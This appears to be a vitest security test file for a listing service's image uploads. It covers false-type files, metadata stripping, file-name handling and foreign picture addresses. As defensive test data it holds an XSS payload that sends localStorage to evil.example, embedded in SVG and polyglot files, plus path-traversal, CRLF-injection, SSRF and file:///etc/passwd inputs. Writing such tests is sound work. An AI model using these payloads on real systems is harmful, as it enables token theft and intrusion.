import { once } from 'node:events'
import { readdirSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import sharp from 'sharp'
import { afterAll, describe, expect, it } from 'vitest'
import { imageAt, imageWidths } from '#contract/listings/images.ts'
import { aListing } from '#testkit/listings.ts'
import { aPerson } from '#testkit/people.ts'
import { aPhonePhoto, aPicture, storedFiles, upload } from '#testkit/pictures.ts'
import { openWorld } from '#testkit/world.ts'

const world = await openWorld()
afterAll(() => world.close())
const seller = await aPerson(world)

const aDraft = () => aListing(world, seller, { status: 'Draft', pictures: 0 })
const get = (url: string) => world.app.inject({ method: 'GET', url })
const SCRIPT = '<script>fetch("//evil.example/?"+localStorage.t)</script>'

describe('case 25: files with a false type', () => {
  it.each([
    ['an SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`],
    ['an SVG behind an XML header', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    ['a page', `<!doctype html><html>${SCRIPT}</html>`],
    ['a GIF with an archive', `GIF89a\x01\x00\x01\x00\x00\x00\x00;PK\x03\x04${SCRIPT}`],
    ['a PDF', '%PDF-1.7\n1 0 obj'],
    ['nothing', ''],
  ])('refuses %s, whatever type and name it comes with', async (_what, text) => {
    const { id } = await aDraft()
    for (const [name, type] of [
      ['photo.jpg', 'image/jpeg'],
      ['photo.svg', 'image/svg+xml'],
    ] as const) {
      const answer = await upload(world, id, [{ content: Buffer.from(text, 'latin1'), name, type }], seller)
      expect([answer.status, answer.body.reason]).toEqual([415, 'not_an_image'])
    }
  })

  it('refuses an SVG that begins like a JPEG, and unsupported formats like GIF or TIFF', async () => {
    const { id } = await aDraft()
    const disguised = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(`<svg>${SCRIPT}</svg>`)])
    expect((await upload(world, id, [disguised], seller)).body.reason).toBe('image_unusable')
    for (const format of ['gif', 'tiff', 'avif'] as const) {
      const file = await sharp(await aPicture())
        .toFormat(format)
        .toBuffer()
      expect((await upload(world, id, [file], seller)).status).toBe(415)
      await expect(sharp(file).metadata()).rejects.toThrow(/unsupported/)
    }
  })

  it('reads a picture with a wrong type by its content and drops appended data', async () => {
    const { id } = await aDraft()
    const polyglot = Buffer.concat([await aPicture({ format: 'png' }), Buffer.from(`${SCRIPT}PK\x03\x04`)])
    const { body } = await upload(world, id, [{ content: polyglot, name: 'a.html', type: 'text/html' }], seller)
    for (const width of imageWidths) {
      const reply = await get(imageAt(body.images[0]!, width))
      expect(reply.rawPayload.includes('script')).toBe(false)
      expect((await sharp(reply.rawPayload).metadata()).format).toBe('webp')
    }
  })

  it('serves pictures with headers that only allow a browser to display them', async () => {
    const { id } = await aListing(world, seller, { pictures: 0 })
    const { body } = await upload(world, id, [await aPicture()], seller)
    const { headers } = await get(body.images[0]!)
    expect(headers).toMatchObject({
      'content-type': 'image/webp',
      'x-content-type-options': 'nosniff',
      'content-disposition': expect.stringMatching(/^inline; filename="[0-9a-f-]{36}-640\.webp"$/),
    })
    expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*sandbox$/)
  })
})

describe('case 27: metadata of a photo', () => {
  it('is missing in every served size, and the photo is upright', async () => {
    const { id } = await aListing(world, seller, { pictures: 0 })
    const photo = await aPhonePhoto()
    const original = await sharp(photo).metadata()
    expect(original.exif!.toString('latin1')).toContain('SERIAL-0042')
    expect([original.orientation, original.xmp === undefined]).toEqual([6, false])

    const { body } = await upload(world, id, [photo], seller)
    for (const width of imageWidths) {
      const { rawPayload } = await get(imageAt(body.images[0]!, width))
      const facts = await sharp(rawPayload).metadata()
      expect([facts.exif, facts.xmp, facts.iptc, facts.icc, facts.orientation]).toEqual(Array(5).fill(undefined))
      for (const trace of ['EXIF', 'Exif', 'XMP', 'SERIAL', 'Example Phones', 'xmpmeta'])
        expect(rawPayload.includes(trace)).toBe(false)
      expect(facts.height).toBeGreaterThan(facts.width)
    }
  })
})

describe('case 28: file names and foreign picture addresses', () => {
  it('file names of uploads are never used as names of stored files', async () => {
    const { id } = await aDraft()
    const names = ['../../x.jpg', 'a\0b.jpg', `${'n'.repeat(10_240)}.jpg`, 'x.jpg.html', 'a%0d%0aset-cookie: t=1.jpg']
    for (const name of names) {
      const answer = await upload(world, id, [{ content: await aPicture(), name }], seller)
      expect(answer.status).toBeLessThan(500)
      await world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: [] } } }, seller)
    }
    await upload(world, id, [{ content: await aPicture(), name: '../../x.jpg' }], seller)
    expect(storedFiles(world).length).toBeGreaterThan(0)
    for (const file of storedFiles(world)) expect(file).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}-(320|640|1280)\.webp$/)
    expect(readdirSync(world.dataDir)).toEqual(['images'])
  })

  it('picture addresses of other hosts are refused, and no request is made to them', async () => {
    let requests = 0
    const decoy = createServer((_request, reply) => {
      requests++
      reply.end()
    }).listen(0, '127.0.0.1')
    await once(decoy, 'listening')
    const origin = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}`

    const { id } = await aListing(world, seller, { status: 'Draft' })
    const other = await aListing(world, await aPerson(world), { pictures: 0 })
    const foreign = await world.services.images.add(await aPicture())
    await world.db
      .insertInto('images')
      .values({ ...foreign, user_id: null })
      .execute()
    await world.db
      .insertInto('listing_images')
      .values({ listing_id: other.id, image_id: foreign.id, position: 0 })
      .execute()
    const before = await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()
    for (const address of [
      'http://169.254.169.254/',
      `${origin}/images/${foreign.id}-640.webp`,
      'javascript:alert(1)',
      'file:///etc/passwd',
      `/images/${foreign.id}-640.webp`,
      '../../secret-key',
    ]) {
      const answer = await world.api(
        'PUT /deadstock/:id',
        { params: { id }, body: { data: { images: [address] } } },
        seller,
      )
      expect([answer.status, answer.body.errors?.[0]?.field]).toEqual([422, 'images'])
    }
    expect(await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()).toEqual(
      before,
    )
    expect(requests).toBe(0)
    decoy.close()
  })

  it('pictures replaced during reads are returned whole or not at all', async () => {
    const { id } = await aListing(world, seller, { pictures: 2 })
    const { body } = await upload(world, id, [await aPicture(), await aPicture()], seller)
    const replies = await Promise.all([
      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
      world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: body.images.slice(0, 3) } } }, seller),
      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
    ])
    const read = replies.filter(reply => 'rawPayload' in reply)
    const pictures = read.filter(({ statusCode }) => statusCode === 200)
    // at least the first request read the picture before it was replaced
    expect(pictures.length).toBeGreaterThan(0)
    for (const { rawPayload } of pictures) expect((await sharp(rawPayload).metadata()).width).toBe(640)
    expect(read.filter(({ statusCode }) => ![200, 404].includes(statusCode))).toEqual([])
    expect((await get(body.images[3]!)).statusCode).toBe(404)
    expect((await get(body.images[2]!)).statusCode).toBe(200)
  })
})
